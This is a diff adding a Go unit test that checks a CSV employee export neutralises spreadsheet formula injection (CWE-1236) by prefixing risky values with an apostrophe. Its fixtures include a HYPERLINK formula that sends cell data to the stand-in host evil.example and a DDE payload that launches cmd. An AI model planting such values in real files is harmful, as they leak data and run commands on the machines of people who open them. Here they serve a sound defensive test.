@@ -85,6 +85,27 @@ E2,Kenji Watanabe,CTO,E1,,Tokyo,,
 	}
 }
 
+// TestWriteGuardsFormulas: a value a spreadsheet would run as a formula is written after a ',
+// which shows it as text, and reads back as it was; a value that only has a ' in it is
+// written as it is. (Found by a black-box review: CWE-1236.)
+func TestWriteGuardsFormulas(t *testing.T) {
+	people := []orgledger.Employee{
+		{ID: "E1", Name: `=HYPERLINK("http://evil.example/?x="&A1,"click")`, Title: "CEO", Location: "+cmd|' /c calc'!A0"},
+		{ID: "E2", Name: "'t Hart", Title: "-", ManagerID: "E1", Location: "'=already quoted"},
+	}
+	got := writeCSV(t, people)
+	want := `employee_id,name,title,manager_id,department,location
+E1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",CEO,,,'+cmd|' /c calc'!A0
+E2,'t Hart,'-,E1,,''=already quoted
+`
+	if got != want {
+		t.Errorf("WriteCSV wrote:\n%s\nwant:\n%s", got, want)
+	}
+	if back := employeesOf(mustRead(t, got, hris.Options{}).Rows); !reflect.DeepEqual(back, people) {
+		t.Errorf("read back:\n%+v\nwant:\n%+v", back, people)
+	}
+}
+
 // TestWriteRead checks that reading an export gives back the people it was written from, so
 // that export followed by import changes nothing.
 func TestWriteRead(t *testing.T) {
